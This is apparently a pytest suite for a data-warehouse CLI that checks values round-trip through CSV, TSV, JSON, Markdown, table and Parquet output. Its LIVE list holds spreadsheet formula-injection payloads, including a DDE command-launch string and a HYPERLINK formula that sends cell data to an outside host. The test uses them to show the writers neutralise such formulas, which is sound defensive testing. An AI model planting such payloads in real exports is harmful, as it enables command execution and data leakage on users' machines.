"""Every value survives every format that is meant for programs."""

from __future__ import annotations

import csv
import io
import json
import math
import struct
from datetime import datetime
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dakota_wh import api
from dakota_wh.commands.output import Output
from dakota_wh.rendering.as_json import json_text, pretty, write_json, write_ndjson
from dakota_wh.rendering.delimited import write_csv, write_tsv
from dakota_wh.rendering.markdown import write_markdown
from dakota_wh.rendering.rows import Listing
from dakota_wh.rendering.table import write_table

from .conftest import Call

NUMBERS = [0.1 + 0.2, 5e-324, 1.7976931348623157e308, -0.0, 1e16, 1 / 3, 123456789.123456789]
TEXTS = [
    "",
    " lead and trail ",
    'a "quoted" one',
    "a,b;c\td|e",
    "two\nlines\r\nand\rmore",
    "\x1b[31mred\x1b[0m \x07",
    "ünï ✓ 日本 😀 \u202e",
    "=1+1",
    "NULL",
    "\\N \\",
    "<b>&amp;</b> `code` *star*",
]
TEXT_ROWS = Listing(["n", 'te,"xt'], ["BIGINT", "VARCHAR"], list(enumerate(TEXTS)))


def written(writer: Any, rows: Listing) -> str:
    """Return what a writer writes."""
    file = io.StringIO()
    writer(rows, file.write)
    return file.getvalue()


def same(a: float, b: float) -> bool:
    """Return whether two doubles are the same, bit for bit."""
    return struct.pack("d", a) == struct.pack("d", b)


@pytest.mark.parametrize(("writer", "separator"), [(write_csv, ","), (write_tsv, "\t")])
def test_texts_and_numbers_survive_delimited(writer: Any, separator: str) -> None:
    text = written(writer, TEXT_ROWS)
    read = list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
    shown = ['"=1+1"' if text == "=1+1" else text for text in TEXTS]
    assert read == [["n", 'te,"xt'], *([str(n), t] for n, t in enumerate(shown))]
    numbers = Listing(["x"], ["DOUBLE"], [(x,) for x in [*NUMBERS, math.inf, -math.inf]])
    frame = pd.read_csv(io.StringIO(written(writer, numbers)), sep=separator)
    assert all(same(a, b[0]) for a, b in zip(frame["x"], numbers, strict=True))


LIVE = [
    "=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "=HYPERLINK(\"http://x/?\"&A1)", "\t=1+1",
    "\r=1+1", "\n=1", " =1+1", "\x00=1", "＝1+1", "＋1", "－1", "＠A1", "-", "- a point",
]  # fmt: skip
HARMLESS = ["-0.5", "+1e5", "-3", "1-1", "a=1", "reward/mean", '"=1', "{}", "", "'=1"]


@pytest.mark.parametrize(("writer", "separator"), [(write_csv, ","), (write_tsv, "\t")])
def test_no_formula_is_live(writer: Any, separator: str) -> None:
    """In cells and in the header; what is only a number is none."""
    rows = Listing(["=evil()", "t"], ["BIGINT", "VARCHAR"], list(enumerate(LIVE + HARMLESS)))
    header, *read = csv.reader(io.StringIO(written(writer, rows), newline=""), delimiter=separator)
    assert header == ['"=evil()"', "t"]
    cells = [cell for _, cell in read]
    for text, cell in zip(LIVE, cells, strict=False):
        assert cell[0] == '"'
        assert json.loads(cell) == text
    assert cells[len(LIVE) :] == HARMLESS
    numbers = Listing(["x"], ["DOUBLE"], [(-0.5,), (-5e-324,)])
    assert written(writer, numbers) == "x\n-0.5\n-5e-324\n"
    exact = json.loads(written(write_json, rows))
    assert [row["t"] for row in exact] == LIVE + HARMLESS


def test_null_nan_and_empty_text_differ_in_csv() -> None:
    rows = Listing(["a", "b"], ["DOUBLE", "VARCHAR"], [(None, None), (math.nan, "")])
    assert written(write_csv, rows) == 'a,b\n,\nNaN,""\n'


def test_a_null_alone_on_its_line_is_a_line() -> None:
    rows = Listing(["a"], ["DOUBLE"], [(None,), (1.0,)])
    assert len(pd.read_csv(io.StringIO(written(write_csv, rows)))) == 2


@given(st.lists(st.tuples(st.text(st.characters(codec="utf-8")), st.floats(), st.integers())))
def test_csv_and_json_give_back_anything(rows: list[tuple[str, float, int]]) -> None:
    listing = Listing(["t", "f", "i"], ["VARCHAR", "DOUBLE", "BIGINT"], rows)
    read = list(csv.reader(io.StringIO(written(write_csv, listing), newline="")))[1:]
    for (cell, *_), (text, *_) in zip(read, rows, strict=True):
        # A cell is its text, or the JSON of one that a spreadsheet might compute with.
        assert cell == text or (json.loads(cell) == text and set(text) & set("=+-@＝＋－＠"))
    assert all(
        same(float(r[1]), row[1]) or math.isnan(row[1]) for r, row in zip(read, rows, strict=True)
    )
    for writer in (write_json, write_ndjson):
        text = written(writer, listing)
        objects = (
            json.loads(text)
            if writer is write_json
            else [json.loads(x) for x in text.split("\n")[:-1]]
        )
        assert [(o["t"], o["i"]) for o in objects] == [(row[0], row[2]) for row in rows]
        assert all(
            same(float(o["f"]), row[1]) or math.isnan(row[1])
            for o, row in zip(objects, rows, strict=True)
        )


def refuse(word: str) -> float:
    """Fail on what JSON has not."""
    raise AssertionError(f"{word} is no JSON")


def test_json_is_valid_and_tells_null_from_nan() -> None:
    rows = Listing(
        ["a", "b"], ["DOUBLE", "BIGINT"], [(math.nan, None), (math.inf, 2**100), (-math.inf, 1)]
    )
    for ascii_only in (False, True):
        file = io.StringIO()
        write_json(rows, file.write, ascii_only=ascii_only)
        assert json.loads(file.getvalue(), parse_constant=refuse) == [
            {"a": "NaN", "b": None},
            {"a": "Infinity", "b": 2**100},
            {"a": "-Infinity", "b": 1},
        ]
    assert json.loads(written(write_json, Listing(["a"], ["BIGINT"], []))) == []


def test_nested_values_are_json_everywhere() -> None:
    value = {"a": [1, None, "x\n"], "b": {"c": math.nan}}
    expected = {"a": [1, None, "x\n"], "b": {"c": "NaN"}}
    assert json.loads(json_text(value)) == expected
    assert json.loads(pretty(value)) == expected
    assert json_text("é", ascii_only=True) == '"\\u00e9"'
    rows = Listing(["v"], ["STRUCT"], [(value,)])
    read = list(csv.reader(io.StringIO(written(write_csv, rows), newline="")))
    assert json.loads(read[1][0]) == expected


def test_markdown_keeps_one_row_a_line_and_its_columns() -> None:
    text = written(write_markdown, TEXT_ROWS)
    lines = text.rstrip("\n").split("\n")
    assert len(lines) == len(TEXTS) + 2
    assert lines[1] == "| ---: | --- |"
    for line in lines:
        assert line.replace("\\\\", "").replace("\\|", "").count("|") == 3
    assert "\x1b" not in text
    assert "<b>" not in text


def test_a_table_shows_escape_sequences_and_does_not_send_them() -> None:
    text = written(write_table, TEXT_ROWS)
    assert "\\x1b[31mred" in text
    assert not {"\x1b", "\r", "\t", "\x07", "\u202e"} & set(text)
    assert len(text.splitlines()) == len(TEXTS) + 2


def test_every_format_of_a_real_view_is_the_same_data(folder: Path, tmp_path: Path) -> None:
    rows = api.open(folder).query("reward_stats").rows()
    read: dict[str, list[tuple[Any, ...]]] = {}
    for suffix in ("csv", "tsv", "json", "ndjson"):
        file = tmp_path / f"stats.{suffix}"
        Output(None, file).write(api.open(folder).query("reward_stats"))
        if suffix in ("csv", "tsv"):
            frame = pd.read_csv(file, sep="," if suffix == "csv" else "\t")
            read[suffix] = [tuple(row) for row in frame.itertuples(index=False)]
        else:
            lines = file.read_text(encoding="utf-8")
            objects = json.loads(lines if suffix == "json" else f"[{','.join(lines.splitlines())}]")
            read[suffix] = [tuple(one.values()) for one in objects]
    assert len(rows) == 6
    assert all(found == rows for found in read.values())


def test_times_are_iso_8601_in_utc(folder: Path, call: Call) -> None:
    result = call("runs", "--format", "json", "--warehouse", folder)
    (row, *_) = json.loads(result.out)
    assert row["created_at"] == "2026-01-05T09:00:00Z"
    assert datetime.fromisoformat(row["ingested_at"]).tzinfo is not None


def test_parquet_holds_the_types(folder: Path, tmp_path: Path, dakota: Any) -> None:
    file = tmp_path / "metrics.parquet"
    done = dakota("query", "metrics", "--warehouse", folder, "-o", file)
    assert done.returncode == 0
    table = pq.read_table(file)
    assert table.schema.field("value").type == "double"
    values = [row[-1] for row in api.open(folder).query("metrics").rows()]
    assert all(
        a is b is None or same(a, b)
        for a, b in zip(table["value"].to_pylist(), values, strict=True)
    )
    piped = dakota("query", "metrics", "--warehouse", folder, "--format", "parquet")
    assert piped.stdout == file.read_bytes()


@pytest.mark.parametrize(
    ("literal", "text", "as_json"),
    [
        ("1.50", "1.50", 1.5),
        ("true", "true", True),
        ("170141183460469231731687303715884105727", str(2**127 - 1), 2**127 - 1),
        ("date '2024-02-03'", "2024-02-03", "2024-02-03"),
        ("timestamp '2024-02-03 04:05:06.7'", "2024-02-03T04:05:06.700000Z", None),
        ("'\\x00\\xAA5'::blob", "\\x00\\xAA5", "\\x00\\xAA5"),
        ("[1, NULL]", "[1, null]", [1, None]),
        ("{'a': 'x'}", '{"a": "x"}', {"a": "x"}),
        ("map {1: 'x'}", '{"1": "x"}', {"1": "x"}),
        ("'nan'::double", "NaN", "NaN"),
        ("1e300::double", "1e+300", 1e300),
        ("0.1::float", "0.10000000149011612", 0.10000000149011612),
    ],
)
def test_every_type_has_a_text(
    folder: Path, call: Call, literal: str, text: str, as_json: object
) -> None:
    select = f"SELECT {literal} AS x"
    out = call("sql", select, "--warehouse", folder).out
    assert list(csv.reader(io.StringIO(out))) == [["x"], [text]]
    (row,) = json.loads(call("sql", select, "--warehouse", folder, "--format", "json").out)
    assert row["x"] == (text if as_json is None else as_json)
